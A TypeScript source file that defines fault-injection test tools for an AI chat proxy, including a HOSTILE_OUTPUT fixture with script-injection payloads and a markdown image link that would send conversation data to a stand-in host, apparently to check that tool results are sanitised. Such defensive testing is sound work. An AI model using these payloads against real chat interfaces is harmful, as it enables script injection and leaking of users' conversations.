import { z } from 'zod';
import { defineToolSpec, type ToolSpec } from './tool-spec';

/**
 * Fault-injection tools for the end-to-end tests of issue 7 (a handler that throws, one that
 * never settles, a huge output, an output carrying HTML and exfiltration links). The proxy
 * declares them only when FANOUT_FAULT_TOOLS is set, and the page loads their handlers (a
 * separate chunk) only when `GET /api/models` says so: a production deployment never offers
 * them to a model.
 */
const none = z.object({}).strict();
const instant = { baseMs: 0, jitterMs: 0 };

/** A host that must never be contacted: the exfiltration target in fault_html's output. */
export const EXFIL_HOST = 'exfil.invalid';

export const faultToolSpecs: readonly ToolSpec[] = [
  defineToolSpec({
    name: 'fault_throw',
    description: 'Test tool: its handler throws.',
    input: none,
    runsOn: 'browser',
    timeoutMs: 5000,
    simulatedLatency: instant,
  }),
  defineToolSpec({
    name: 'fault_hang',
    description: 'Test tool: its handler never settles and ignores its abort signal.',
    input: none,
    runsOn: 'browser',
    timeoutMs: 1500,
    simulatedLatency: instant,
  }),
  defineToolSpec({
    name: 'fault_huge',
    description: 'Test tool: returns an output far larger than the model output cap.',
    input: none,
    runsOn: 'browser',
    timeoutMs: 5000,
    simulatedLatency: instant,
  }),
  defineToolSpec({
    name: 'fault_html',
    description: 'Test tool: returns HTML, a script, javascript: links and remote images.',
    input: none,
    runsOn: 'browser',
    timeoutMs: 5000,
    simulatedLatency: instant,
  }),
];

/** What fault_html returns: every way a tool result could try to become markup or a request. */
export const HOSTILE_OUTPUT = {
  html: `<img src="https://${EXFIL_HOST}/html.png" onerror="window.__pwned=1"><b>bold</b>`,
  script: '<script>window.__pwned = 1</script>',
  link: '[click me](javascript:window.__pwned=1)',
  image: `![logo](https://${EXFIL_HOST}/leak.png?data=secret-conversation)`,
} as const;
